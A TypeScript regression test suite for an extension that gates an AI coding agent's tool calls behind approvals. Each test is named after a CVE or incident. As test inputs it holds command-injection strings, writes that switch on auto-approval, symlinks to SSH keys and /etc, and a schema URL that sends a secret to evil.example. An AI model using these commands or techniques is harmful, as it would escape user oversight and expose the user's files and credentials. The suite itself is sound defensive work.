import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { subjectOf } from '../../../../src/core/approvals/subject.ts';
import { PrivateFolder } from '../../../../src/platform/privateFolder.ts';
import { approvalModes } from '../../../../src/protocol/modes.ts';
import type { ToolRequest } from '../../../../src/core/runtime.ts';
import { permissionModeOf } from '../../../../src/runtimes/claudeCode/args.ts';
import { ToolOrigins } from '../../../../src/runtimes/claudeCode/toolOrigins.ts';
import { commandVerdict, linkedFiles, toolCall, verdictOf } from '../../../support/approvals.ts';

const root = path.resolve(import.meta.dirname, '..', '..', '..', '..');
const workModes = approvalModes.filter((mode) => mode !== 'plan');
const everything = { allow: ['run', 'edit', 'read', 'fetch'], grants: ['edit:/w'], always: ['edit:/w'] };

async function asksInEveryMode(request: ToolRequest, files = linkedFiles()): Promise<void> {
  for (const mode of workModes) {
    const verdict = await verdictOf(request, { ...everything, mode }, files);
    assert.equal(verdict, 'ask', `${mode}: ${request.command ?? request.paths.join(' ')}`);
  }
}

const edit = (file: string) => toolCall('edit', { toolName: 'Write', paths: [file] });
const run = (command: string) => toolCall('execute', { toolName: 'Bash', command });

/** Sources that the extension is made of, without the webview's. */
function sources(): readonly (readonly [string, string])[] {
  return readdirSync(path.join(root, 'src'), { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts'))
    .map((name) => [name, readFileSync(path.join(root, 'src', name), 'utf8')] as const);
}

/** What became public of agents in editors, each with what keeps it from happening here. */
describe('incidents', () => {
  it('CVE-2025-53773: an agent does not turn approvals off by writing settings', async () => {
    for (const file of [
      '.vscode/settings.json',
      'sub/.vscode/settings.json',
      'a.code-workspace',
      '.git/config',
      '.claude/settings.json',
      '.cursor/mcp.json',
      '/home/me/.config/Code/User/settings.json',
    ]) {
      await asksInEveryMode(edit(file));
      await asksInEveryMode(run(`echo '{"chat.tools.autoApprove":true}' > ${file}`));
    }
  });

  it('CVE-2026-70335: an agent does not register hooks by writing agents, skills or servers', async () => {
    for (const file of [
      '.github/agents/x.agent.md',
      '.github/hooks/x.json',
      '.claude/agents/x.md',
      '.claude/skills/x/SKILL.md',
      '.agents/skills/x.md',
      '.mcp.json',
      '.vscode/mcp.json',
      '.github/prompts/x.prompt.md',
    ]) {
      await asksInEveryMode(edit(file));
      await asksInEveryMode(run(`cp x ${file}`));
    }
  });

  it('vscode #330312: accepting edits does not leave the folder', async () => {
    const files = linkedFiles({ '/w/link': '/elsewhere' });
    for (const mode of workModes) {
      for (const file of ['../x', '/elsewhere/x', 'link/x', 'a/../../x', '/wx']) {
        assert.equal(await verdictOf(edit(file), { mode, grants: ['edit:/w'] }, files), 'ask', `${mode} ${file}`);
      }
    }
  });

  it('CVE-2025-54135, CVE-2025-54136: what was allowed for a server ends when its definition changes', async () => {
    const digest = (text: string): string => text;
    const asked = (server: object, project: string | undefined) => {
      const origin = new ToolOrigins({ notes: server }, project, digest).of('mcp__notes__add');
      return toolCall('other', { toolName: 'mcp__notes__add', ...(origin === undefined ? {} : { origin }) });
    };
    const approved = asked({ command: 'notes', args: ['--safe'] }, 'v1');
    const key = /\[(.*)\]$/s.exec(await verdictOf(approved))?.[1] ?? '';
    const options = { always: [key], grants: [key] };
    assert.equal(await verdictOf(approved, options), 'allow');
    for (const changed of [
      asked({ command: 'notes', args: ['--safe'] }, 'v2'),
      asked({ command: 'notes', args: ['--evil'] }, 'v1'),
      asked({ command: 'notes', args: ['--safe'], env: { LD_PRELOAD: 'x' } }, 'v1'),
      asked({ command: 'sh' }, 'v1'),
    ]) {
      assert.match(await verdictOf(changed, options), /^ask/);
    }
  });

  it('CVE-2025-52882, CVE-2026-22812, CVE-2026-59950, CVE-2026-63118: nothing listens on a port', () => {
    const listening = sources().filter(([, text]) =>
      /from '(?:node:)?(?:https?|http2|dgram|tls)'|\bcreateServer\b|\.listen\(|WebSocketServer/.test(text),
    );
    assert.deepEqual(
      listening.map(([name]) => name),
      [],
    );
  });

  it('CVE-2025-54794: a path that begins like the folder is not in it', async () => {
    for (const file of ['/w2/x', '/w-evil/x', '/w/../w2/x']) {
      assert.match(await verdictOf(toolCall('read', { paths: [file] })), /^ask/, file);
      await asksInEveryMode(edit(file));
    }
  });

  it('CVE-2025-54795, CVE-2025-66032, CVE-2026-25723, CVE-2026-29783: a command that is allowed carries no other one', async () => {
    const allow = [
      'run(echo)',
      'run(sed)',
      'run(sort)',
      'run(rg)',
      'run(git diff)',
      'run(man)',
      'run(xargs grep)',
      'run(date)',
    ];
    for (const command of [
      'echo "\\""; touch x; echo "\\""',
      'echo $(touch x)',
      'echo "${PWNED@P}"',
      'echo ${one="$"}${two="$one(touch x)"}${two@P}',
      "sed 's/x/touch y/e' f",
      "echo x | sed 'w .git/config'",
      'sort --compress-program=sh f',
      'rg --pre=sh x f',
      'git diff --ext-diff',
      'man -H"touch x" ls',
      'echo x\ntouch x',
      'echo x \\\n; touch x',
      'date -f /etc/shadow',
      'echo > x',
      'echo ${IFS}x;touch${IFS}x',
    ]) {
      assert.equal((await commandVerdict(command, { allow })).kind, 'ask', command);
    }
  });

  it('ADVISORY-CC-2026-002: a long chain is neither allowed, nor does it shake off a rule that refuses', async () => {
    for (const count of [50, 51, 60, 200]) {
      const chain = [...Array.from({ length: count }, () => 'true'), 'git push'].join(' && ');
      const verdict = await commandVerdict(chain, { mode: 'auto', allow: ['run'], deny: ['run(git push)'] });
      assert.equal(verdict.kind, 'deny', String(count));
    }
    const harmless = Array.from({ length: 60 }, () => 'git status').join('; ');
    assert.deepEqual(await commandVerdict(harmless, { mode: 'auto', allow: ['run'] }), {
      kind: 'ask',
      reason: 'It runs 60 commands at once, too many to be checked one by one.',
      isGrantable: false,
    });
  });

  it('CVE-2026-25725: files that are protected are so before they exist', async () => {
    // No disk here has any of them.
    for (const file of [
      '.claude/settings.json',
      '.claude/settings.local.json',
      '.codex/config.toml',
      '.envrc',
      '.git',
    ]) {
      await asksInEveryMode(edit(file));
      await asksInEveryMode(run(`touch ${file}`));
      await asksInEveryMode(run(`mkdir -p ${file}`));
    }
  });

  it('CVE-2026-25724, CVE-2026-39861, CVE-2026-12957, CVE-2026-12958: a link counts as what it leads to', async () => {
    const files = linkedFiles({
      '/w/notes.txt': '/home/me/.ssh/authorized_keys',
      '/w/docs': '/w/.git/hooks',
      '/w/data': '/etc',
    });
    for (const request of [
      edit('notes.txt'),
      edit('docs/pre-commit'),
      edit('data/hosts'),
      run('echo x >> notes.txt'),
      run('cp x docs/pre-commit'),
      run('tee docs/a'),
    ]) {
      await asksInEveryMode(request, files);
    }
    assert.equal(
      await verdictOf(toolCall('read', { paths: ['notes.txt'] }), {}, files),
      'ask [read:/home/me/.ssh/authorized_keys]',
    );
  });

  it('CVE-2026-46406, CVE-2026-50548, CVE-2026-50549: the card shows where a path leads, and no temporary name can be guessed', async () => {
    const files = linkedFiles({ '/w/notes.txt': '/home/me/.bashrc' });
    assert.equal(await subjectOf(edit('docs/../notes.txt'), '/w', files), '/w/notes.txt\n\u2192 /home/me/.bashrc');
    const folders = [PrivateFolder.create(), PrivateFolder.create()];
    try {
      assert.equal(new Set(folders.map(({ path: place }) => place)).size, 2);
      assert.deepEqual(
        folders.map(({ path: place }) => statSync(place).mode & 0o777),
        [0o700, 0o700],
      );
    } finally {
      folders.forEach((folder) => folder.remove());
    }
    const others = sources().filter(([, text]) => /tmpdir\(\)|['"`]\/tmp\//.test(text) && !/mkdtemp/.test(text));
    assert.deepEqual(
      others.map(([name]) => name),
      [],
    );
  });

  it('CVE-2026-33068: no configured mode becomes one that bypasses the approvals', () => {
    for (const configured of ['bypassPermissions', 'BypassPermissions', 'dangerouslySkipPermissions']) {
      for (const mode of approvalModes) {
        assert.doesNotMatch(permissionModeOf(mode, configured), /bypass|skip/i);
      }
    }
  });

  it('CVE-2026-24052, CVE-2026-54316: a host is compared by its labels, and a host of everybody is not allowed as one', async () => {
    const fetching = (url: string) => toolCall('network', { toolName: 'WebFetch', url, input: { url } });
    const allow = ['fetch(modelcontextprotocol.io)', 'fetch(github.com/anthropics/claude-code)'];
    assert.equal(await verdictOf(fetching('https://modelcontextprotocol.io/x'), { allow }), 'allow');
    for (const url of [
      'https://modelcontextprotocol.io.example.com/',
      'https://evilmodelcontextprotocol.io/',
      'https://modelcontextprotocol.io@evil.example/',
      'https://github.com/evil/repo',
      'https://github.com/anthropics/claude-code-evil',
      'http://modelcontextprotocol.io/',
    ]) {
      assert.match(await verdictOf(fetching(url), { allow }), /^ask/, url);
    }
    assert.match(await verdictOf(fetching('https://x.github.io/')), /network:WebFetch/);
  });

  it('Claude Code 2.1.118: no link of another program starts anything', () => {
    const manifest = readFileSync(path.join(root, 'package.json'), 'utf8');
    assert.doesNotMatch(manifest, /"onUri/);
    assert.deepEqual(
      sources()
        .filter(([, text]) => text.includes('registerUriHandler'))
        .map(([name]) => name),
      [],
    );
  });

  it('Clinejection: nothing that ships runs a script when it is installed', () => {
    const { packages } = JSON.parse(readFileSync(path.join(root, 'package-lock.json'), 'utf8')) as {
      packages: Record<string, { hasInstallScript?: boolean; dev?: boolean }>;
    };
    const scripts = Object.entries(packages).filter(
      ([, { hasInstallScript, dev }]) => hasInstallScript === true && dev !== true,
    );
    assert.deepEqual(
      scripts.map(([name]) => name),
      [],
    );
    assert.match(readFileSync(path.join(root, '.npmrc'), 'utf8'), /^ignore-scripts=true$/m);
  });

  it('CVE-2026-12537: no environment is read from a file of the workspace', () => {
    assert.deepEqual(
      sources()
        .filter(([, text]) => /dotenv|['"`/]\.env['"`]/.test(text))
        .map(([name]) => name),
      [],
    );
  });

  it('IDEsaster: a file that has the editor fetch or run something asks', async () => {
    const change = (content: string) => ({ ...edit('data.json'), change: { path: 'data.json', content } });
    for (const mode of workModes) {
      const { allow: _, ...granted } = everything;
      assert.equal(
        await verdictOf(change('{"$schema":"https://evil.example/?d=secret"}'), { ...granted, mode }),
        'ask',
      );
      assert.equal(await verdictOf(change('{"$schema":"//evil.example/"}'), { ...granted, mode }), 'ask');
    }
    await asksInEveryMode(edit('.vscode/settings.json'));
    await asksInEveryMode(edit('.idea/workspace.xml'));
  });
});
